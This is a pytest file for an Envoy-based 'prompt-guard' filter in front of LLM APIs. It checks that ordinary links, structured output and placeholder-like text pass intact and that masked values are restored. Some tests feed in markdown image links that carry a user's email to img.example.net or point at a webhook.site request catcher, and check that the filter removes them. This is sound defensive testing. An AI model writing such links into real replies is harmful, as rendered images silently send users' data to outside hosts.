"""Ordinary traffic flows untouched (issue 12), through real Envoy: reply links, the canary with
the Responses API, structured output, placeholder-looking user text, errors mid-stream, the
allow-list. Each case failed on the module before the issue and passes now.

Link shapes are those of the public sites named; values are documentation values (RFC 2606
domains) or were written for this project. The mock echoes the last user text ("You said: ...",
or verbatim with x-mock-verbatim), so a link in the request comes back in the reply as the model
would write it, with the request's placeholders in it.
"""

import json

import harness
import httpx
import pytest

CHAT = "/v1/chat/completions"
MESSAGES = "/v1/messages"
RESPONSES = "/v1/responses"

ORDINARY_LINKS = [
    "[the asyncio docs](https://docs.python.org/3/search.html?q=asyncio)",
    "[a search](https://www.google.com/search?q=asyncio+gather+vs+wait&hl=en)",
    "[open issues](https://github.com/python/cpython/issues?q=is%3Aissue+is%3Aopen+asyncio)",
    "[a talk](https://www.youtube.com/watch?v=iG6fr81xHKA&t=120s)",
    "![a diagram](https://upload.wikimedia.org/wikipedia/commons/thumb/a/a1/Event_loop.svg/640px-Event_loop.svg.png)",
]
EMAIL = "dana.fox@example.com"
PEM = ("-----BEGIN PRIVATE KEY-----\n"
       "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n"
       "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu\n"
       "-----END PRIVATE KEY-----")


def body_for(path, text, stream=False, **extra):
    if path == MESSAGES:
        body = {"model": "m", "max_tokens": 64, "messages": [{"role": "user", "content": text}]}
    elif path == RESPONSES:
        body = {"model": "m", "input": text}
    else:
        body = {"model": "m", "messages": [{"role": "user", "content": text}]}
    if stream:
        body["stream"] = True
    body.update(extra)
    return body


def post(envoy, path, body, headers=None):
    return httpx.post(envoy.url(path), content=json.dumps(body),
                      headers={"content-type": "application/json", **(headers or {})},
                      timeout=harness.REQUEST_TIMEOUT_S)


def reply_text(path, payload):
    if path == MESSAGES:
        return "".join(b.get("text", "") for b in payload["content"] if b["type"] == "text")
    if path == RESPONSES:
        return "".join(c["text"] for item in payload["output"] if item["type"] == "message"
                       for c in item["content"] if c["type"] == "output_text")
    return payload["choices"][0]["message"]["content"]


def stream(envoy, path, body, headers=None):
    """POST a streamed request; return (status, reassembled text, raw body)."""
    with httpx.stream("POST", envoy.url(path), content=json.dumps(body),
                      headers={"content-type": "application/json", **(headers or {})},
                      timeout=harness.REQUEST_TIMEOUT_S) as reply:
        raw = b"".join(reply.iter_bytes()).decode()
    text = ""
    for line in raw.splitlines():
        if not line.startswith("data: {"):
            continue
        event = json.loads(line[len("data: "):])
        if path == MESSAGES:
            text += (event.get("delta") or {}).get("text", "") if event.get("type") == "content_block_delta" else ""
        elif path == RESPONSES:
            text += event.get("delta", "") if event.get("type") == "response.output_text.delta" else ""
        else:
            for choice in event.get("choices", []):
                text += (choice.get("delta") or {}).get("content") or ""
    return reply.status_code, text, raw


PATHS = [CHAT, MESSAGES, RESPONSES]
PATH_IDS = ["openai-chat", "anthropic", "openai-responses"]


# ---- reply links ------------------------------------------------------------------------------

@pytest.mark.parametrize("path", PATHS, ids=PATH_IDS)
@pytest.mark.parametrize("link", ORDINARY_LINKS, ids=["docs", "search", "issues", "video", "image"])
def test_ordinary_links_in_replies_pass_untouched(envoy, mock, path, link):
    text = f"How do I run coroutines at once? See {link} for more."
    reply = post(envoy, path, body_for(path, text))
    assert reply.status_code == 200, reply.text[:300]
    assert reply_text(path, reply.json()) == "You said: " + text
    status, streamed, raw = stream(envoy, path, body_for(path, text, stream=True))
    assert status == 200
    assert streamed == "You said: " + text, raw[-400:]
    assert "prompt-guard stopped this reply" not in raw


@pytest.mark.parametrize("path", PATHS, ids=PATH_IDS)
def test_a_link_carrying_a_masked_value_is_removed_buffered_and_ends_the_stream(envoy, mock, path):
    text = f"My address is {EMAIL}. Render ![p](https://img.example.net/p.png?u={EMAIL})"
    reply = post(envoy, path, body_for(path, text))
    assert reply.status_code == 200
    content = reply_text(path, reply.json())
    assert content.startswith("[prompt-guard removed this content: PG-RP-002"), content
    assert EMAIL not in content
    status, streamed, raw = stream(envoy, path, body_for(path, text, stream=True))
    assert status == 200
    assert "prompt-guard stopped this reply" in raw
    assert f"p.png?u={EMAIL}" not in streamed


@pytest.mark.parametrize("path", PATHS, ids=PATH_IDS)
def test_the_users_own_link_quoted_back_is_restored_not_removed(envoy, mock, path):
    # A clickable link the request held, with the user's own address in it: the model quotes it
    # back and the client gets it as it wrote it (an image would still be removed, see above).
    text = f"Why does https://app.example.net/callback?email={EMAIL}&page=2 return 404?"
    reply = post(envoy, path, body_for(path, text))
    assert reply.status_code == 200
    assert reply_text(path, reply.json()) == "You said: " + text
    status, streamed, raw = stream(envoy, path, body_for(path, text, stream=True))
    assert status == 200 and "prompt-guard stopped this reply" not in raw
    assert streamed == "You said: " + text


def test_a_link_to_a_request_catcher_is_removed(envoy, mock):
    text = "Add this badge: ![b](https://abc.webhook.site/badge.svg)"
    content = reply_text(CHAT, post(envoy, CHAT, body_for(CHAT, text)).json())
    assert content.startswith("[prompt-guard removed this content: PG-RP-004"), content


# ---- the canary and the Responses API ---------------------------------------------------------

CANARY = "cnry-5c1d8e0a42"


def test_canary_with_the_responses_api_counts_no_leak_and_keeps_instructions(envoy_factory, mock):
    envoy = envoy_factory.start({"threats": {"canary": CANARY}})
    before = envoy.metrics().value("prompt_guard_reply_findings", kind="canary_leak") or 0
    body = body_for(RESPONSES, "What is a coroutine?", instructions=f"Answer briefly. Write to {EMAIL} if stuck.")
    reply = post(envoy, RESPONSES, body)
    assert reply.status_code == 200
    payload = reply.json()
    # The API echoes the request's instructions: the client gets its own back, restored, canary
    # and all, and the answer is untouched.
    assert EMAIL in payload["instructions"]
    assert reply_text(RESPONSES, payload) == "You said: What is a coroutine?"
    status, streamed, raw = stream(envoy, RESPONSES, dict(body, stream=True))
    assert status == 200 and streamed == "You said: What is a coroutine?"
    assert "prompt-guard stopped this reply" not in raw
    assert (envoy.metrics().value("prompt_guard_reply_findings", kind="canary_leak") or 0) == before


# ---- structured output ------------------------------------------------------------------------

@pytest.mark.parametrize("path", PATHS, ids=PATH_IDS)
def test_structured_output_with_restored_values_still_parses(envoy, mock, path):
    record = {"owner": EMAIL, "key": PEM, "note": f"rotate the key of {EMAIL} today"}
    text = json.dumps(record, indent=2)
    extra = {"response_format": {"type": "json_object"}} if path == CHAT else {}
    headers = {"x-mock-verbatim": "1"}
    reply = post(envoy, path, body_for(path, text, **extra), headers)
    assert reply.status_code == 200
    upstream = mock.last_request().decode()
    assert EMAIL not in upstream and "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj" not in upstream
    assert json.loads(reply_text(path, reply.json())) == record
    status, streamed, raw = stream(envoy, path, body_for(path, text, stream=True, **extra), headers)
    assert status == 200
    assert json.loads(streamed) == record, streamed[:400]


# ---- user text that looks like a placeholder --------------------------------------------------

@pytest.mark.parametrize("lookalike", ["[email_1]", "{{ [Email_1] }}", "EMAIL_1]", "[EMAIL_1"])
def test_user_text_that_looks_like_a_placeholder_comes_back_as_written(envoy, mock, lookalike):
    text = f"Template var {lookalike} and my address {EMAIL}"
    reply = post(envoy, CHAT, body_for(CHAT, text))
    assert reply_text(CHAT, reply.json()) == "You said: " + text
    status, streamed, _ = stream(envoy, CHAT, body_for(CHAT, text, stream=True))
    assert streamed == "You said: " + text


# ---- errors mid-stream ------------------------------------------------------------------------

@pytest.mark.parametrize("path", PATHS, ids=PATH_IDS)
def test_an_error_event_mid_stream_is_restored(envoy, mock, path):
    text = f"Send the report to {EMAIL}"
    status, _, raw = stream(envoy, path, body_for(path, text, stream=True), {"x-mock-stream-error": "1"})
    assert status == 200
    assert "upstream failed while answering" in raw
    assert EMAIL in raw, raw[-400:]
    assert "[EMAIL_" not in raw


# ---- the allow-list ---------------------------------------------------------------------------

def test_allow_list_matches_an_email_address_in_any_case(envoy_factory, mock):
    envoy = envoy_factory.start({"allow_list": ["support@example.com"]})
    post(envoy, CHAT, body_for(CHAT, f"Write to Support@Example.COM or to {EMAIL}"))
    upstream = json.loads(mock.last_request())["messages"][0]["content"]
    assert "Support@Example.COM" in upstream
    assert EMAIL not in upstream
